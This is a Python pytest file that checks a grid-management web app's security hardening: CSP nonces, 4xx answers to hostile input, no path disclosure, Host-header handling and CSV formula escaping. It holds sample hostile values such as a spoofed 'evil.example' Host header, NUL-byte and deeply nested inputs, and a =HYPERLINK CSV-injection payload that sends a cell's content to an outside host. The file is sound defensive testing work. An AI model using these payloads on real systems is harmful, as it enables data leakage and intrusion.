"""Issue #15: headers, output escaping, no disclosure, and 4xx (never 500) for hostile input, both backends."""

from __future__ import annotations

import csv
import io
import json
import os
import re

import pytest
from click.testing import CliRunner

from gridmap import create_app
from gridmap.cli import main
from gridmap.errors import StoreUnavailable
from gridmap.settings import Settings
from gridmap.web.auth import create_token, create_user

from .conftest import GRIDS, fc, feat, sample_app, square, write_json

REPORT = {"category": "exposed_rubbish", "lon": 116.15, "lat": 39.05, "description": "垃圾"}


@pytest.fixture
def app(services):
    app = create_app(Settings(db=services.settings.db))
    store = app.extensions["gridmap"].store
    create_user(store, "admin", "secret-pass", "admin")
    app.config["test_token"] = create_token(store, "admin")
    yield app
    app.extensions["gridmap"].store.close()


def _h(app):
    return {"Authorization": f"Bearer {app.config['test_token']}"}


def test_security_headers_and_csp_nonce(app):
    client = app.test_client()
    r = client.get("/map")
    assert r.status_code == 200
    csp = r.headers["Content-Security-Policy"]
    nonce = re.search(r"'nonce-([^']+)'", csp).group(1)
    assert "frame-ancestors 'none'" in csp and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0]
    assert r.headers["X-Frame-Options"] == "DENY" and r.headers["X-Content-Type-Options"] == "nosniff"
    assert r.headers["Referrer-Policy"] == "same-origin"
    html = r.get_data(as_text=True)
    inline = re.findall(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)([^>]*)>", html)
    assert inline and all(f'nonce="{nonce}"' in attrs for attrs in inline)  # every inline script may run
    assert client.get("/map").headers["Content-Security-Policy"] != csp  # a fresh nonce per response
    assert "Content-Security-Policy" in client.get("/api/v1/info").headers


@pytest.mark.parametrize("url", [
    "/open311/v2/requests.json?start_date=0001-01-01",
    "/open311/v2/requests.json?end_date=9999-12-31T23:59:59",
    "/map.json?from=0001-01-01", "/map.json?to=9999-12-31", "/map?from=0001-01-01",
    "/api/v1/balance?to=0001-01-01", "/api/v1/balance?from=9999-12-31",
    "/dashboard.json?as_of=0001-01-01", "/dashboard.json?as_of=9999-12-31",
    "/api/v1/incidents?to=9999-12-31",
])
def test_dates_at_the_edges_are_4xx(app, url):
    r = app.test_client().get(url, headers=_h(app))
    assert 400 <= r.status_code < 500, (r.status_code, r.get_data(as_text=True)[:300])


@pytest.mark.parametrize("url", [
    "/api/v1/units/X%00", "/api/v1/units?level=grid%00", "/api/v1/locate?lon=116.1&lat=39.05&crs=EPSG%00",
    "/api/v1/incidents?category=a%00b", "/api/v1/incidents?grid=a%00", "/api/v1/supervision?zone=%00",
    "/api/v1/roster?unit=%00", "/ogcapi/collections/grid/items?parent_code=%00",
    "/ogcapi/collections/grid/items/%00", "/open311/v2/requests.json?service_code=%00",
    "/open311/v2/requests/1%00.json", "/map.json?category=%00", "/board.json?grid=%00",
])
def test_nul_in_a_string_filter_is_4xx(app, url):
    r = app.test_client().get(url, headers=_h(app))
    assert 400 <= r.status_code < 500, (r.status_code, r.get_data(as_text=True)[:300])


def test_hostile_json_bodies_are_4xx(app):
    client = app.test_client()
    deep = "[" * 100_000 + "]" * 100_000
    r = client.post("/api/v1/incidents", data=deep, content_type="application/json")
    assert r.status_code == 422 and "nested" in r.json["detail"]
    r = client.post("/api/v1/incidents", data=json.dumps(REPORT | {"description": "\ud800"}),
                    content_type="application/json")
    assert r.status_code == 422 and "description" in r.json["detail"]
    r = client.post("/api/v1/incidents", data=json.dumps(REPORT | {"description": "a\u0000b"}),
                    content_type="application/json")
    assert r.status_code == 422
    r = client.post("/open311/v2/requests.json", data={"service_code": "exposed_rubbish", "lat": "39.05",
                                                       "long": "116.15", "description": "\x00"})
    assert r.status_code == 400  # Open311 answers bad input with the spec's 400


def test_deeply_nested_geojson_upload_is_4xx_and_names_no_server_path(app, tmp_path):
    client = app.test_client()
    ok = write_json(tmp_path / "ok.geojson", fc([feat(square(116.0, 39.0, 116.01, 39.01), code="A1")]))
    deep = tmp_path / "deep.geojson"
    deep.write_text('{"type": "FeatureCollection", "features": ' + "[" * 100_000 + "]" * 100_000 + "}")
    files = {"layer": [(io.BytesIO(ok.read_bytes()), "ok.geojson"), (io.BytesIO(deep.read_bytes()), "deep.geojson")]}
    r = client.post("/api/v1/networks", data=files, headers=_h(app), content_type="multipart/form-data")
    assert r.status_code == 422, r.get_data(as_text=True)[:300]
    assert "deep.geojson" in r.json["detail"] and "/tmp" not in r.json["detail"] and "gridmap-" not in r.json["detail"]
    bad = io.BytesIO(b"PK\x03\x04 not really a zip")
    files = {"layer": [(io.BytesIO(ok.read_bytes()), "ok.geojson"), (bad, "beats.zip")]}
    r = client.post("/api/v1/networks", data=files, headers=_h(app), content_type="multipart/form-data")
    assert r.status_code == 422 and "beats.zip" in r.json["detail"] and "/tmp" not in r.json["detail"]


def test_forbidden_names_no_other_grid(services):
    app = create_app(Settings(db=services.settings.db))
    try:
        store = app.extensions["gridmap"].store
        create_user(store, "w1", "secret-pass", "staff", person_id="P6")  # P6 leads GRIDS[2]
        client = app.test_client()
        iid = client.post("/api/v1/incidents", json=REPORT).json["id"]  # lands in GRIDS[1]
        tok = create_token(store, "w1")
        r = client.post(f"/api/v1/incidents/{iid}/actions", json={"action": "start"},
                        headers={"Authorization": f"Bearer {tok}"})
        assert r.status_code == 403 and GRIDS[1] not in r.json["detail"]
    finally:
        app.extensions["gridmap"].store.close()


def test_public_url_not_the_host_header_makes_links(services):
    app = create_app(Settings(db=services.settings.db, public_url="https://grid.example.gov.cn"))
    try:
        client = app.test_client()
        evil = {"Host": "evil.example"}
        r = client.post("/api/v1/incidents", json=REPORT, headers=evil)
        assert r.json["status_url"].startswith("https://grid.example.gov.cn/status/")
        links = json.dumps(client.get("/ogcapi/", headers=evil).json)
        assert "evil.example" not in links and "grid.example.gov.cn" in links
    finally:
        app.extensions["gridmap"].store.close()
    app = create_app(Settings(db=services.settings.db, trusted_hosts="grid.example.gov.cn"))
    try:
        assert app.test_client().get("/api/v1/info", headers={"Host": "evil.example"}).status_code == 400
        assert app.test_client().get("/api/v1/info", headers={"Host": "grid.example.gov.cn"}).status_code == 200
    finally:
        app.extensions["gridmap"].store.close()


def test_csv_exports_escape_formulas(tmp_path, sample_dir):
    """OWASP CSV injection: staff names like =HYPERLINK(...) and assign's pass-through columns are quoted.

    SQLite only: the escape is in the CSV writers, and the CLI leaves its store open (a PostGIS
    connection would leak into the next test).
    """
    from gridmap.services import Services

    from .conftest import load_sample

    services = load_sample(Services.open(Settings(db=str(tmp_path / "csv.db")), create=True), sample_dir)
    staff = tmp_path / "evil.csv"
    staff.write_text("person_id,name,phone,unit_code,role\n"
                     f'P9,"=HYPERLINK(""http://x.example/?""&A1,""点我"")",13800000009,{GRIDS[0]},worker\n',
                     encoding="utf-8")
    services.import_staff(staff)
    db = services.settings.db
    out = tmp_path / "staff.csv"
    r = CliRunner().invoke(main, ["--db", db, "export", str(out), "--staff", "--bom"])
    assert r.exit_code == 0, r.output
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
    evil = next(row for row in rows if row["person_id"] == "P9")
    assert evil["name"].startswith("'=HYPERLINK(")
    pts = tmp_path / "pts.csv"
    pts.write_text("id,lon,lat,note\n1,116.15,39.05,=1+1\n2,116.05,39.05,@SUM(A1)\n3,-0.5,39.0,-12.5\n",
                   encoding="utf-8")
    res = tmp_path / "res.csv"
    r = CliRunner().invoke(main, ["--db", db, "assign", str(pts), "--out", str(res), "--crs", "EPSG:4326"])
    assert r.exit_code == 0, r.output
    got = list(csv.DictReader(io.StringIO(res.read_text(encoding="utf-8"))))
    assert [g["note"] for g in got] == ["'=1+1", "'@SUM(A1)", "-12.5"] and got[2]["lon"] == "-0.5"
    services.store.close()


def test_store_outages_do_not_show_the_database_path(tmp_path, sample_dir):
    """A read-only database answers 503 on writes (it was a 500), without naming the file.

    The tests run as root, whom chmod does not stop, so SQLite's query_only pragma makes the
    connections read-only: SQLite then raises the same SQLITE_READONLY error as for a read-only file.
    """
    import sqlalchemy as sa

    app = sample_app(tmp_path, sample_dir)
    store = app.extensions["gridmap"].store
    db = app.extensions["gridmap"].settings.db
    try:
        client = app.test_client()
        assert client.post("/api/v1/incidents", json=REPORT).status_code == 201
        store.engine.dispose()
        sa.event.listen(store.engine, "connect", lambda conn, _: conn.execute("PRAGMA query_only=ON"))
        r = client.post("/api/v1/incidents", json=REPORT)
        assert r.status_code == 503, r.get_data(as_text=True)[:500]
        assert db not in r.json["detail"] and str(tmp_path) not in r.json["detail"]
        assert "database" in r.json["detail"] and client.get("/api/v1/incidents/1").status_code == 200
    finally:
        store.close()


def test_a_file_that_is_not_a_database_gives_one_clear_line(tmp_path):
    bad = tmp_path / "notes.db"
    bad.write_bytes(b"this is not a database, just some text\n" * 100)
    with pytest.raises(StoreUnavailable, match="not a usable gridmap database"):
        create_app(Settings(db=str(bad)))
    r = CliRunner().invoke(main, ["--db", str(bad), "info"])
    assert r.exit_code == 3 and "not a usable gridmap database" in r.output and "Traceback" not in r.output


@pytest.mark.slow
def test_a_file_that_is_not_a_database_stops_the_wsgi_entry_point_with_one_line(tmp_path):
    import subprocess
    import sys

    bad = tmp_path / "notes.db"
    bad.write_bytes(b"this is not a database, just some text\n" * 100)
    p = subprocess.run([sys.executable, "-c", "import gridmap.wsgi"], capture_output=True, text=True, timeout=120,
                       env={**os.environ, "GRIDMAP_DB": str(bad)}, cwd=tmp_path)
    assert p.returncode == 3 and "Traceback" not in p.stderr
    assert p.stderr.strip().count("\n") == 0 and "not a usable gridmap database" in p.stderr
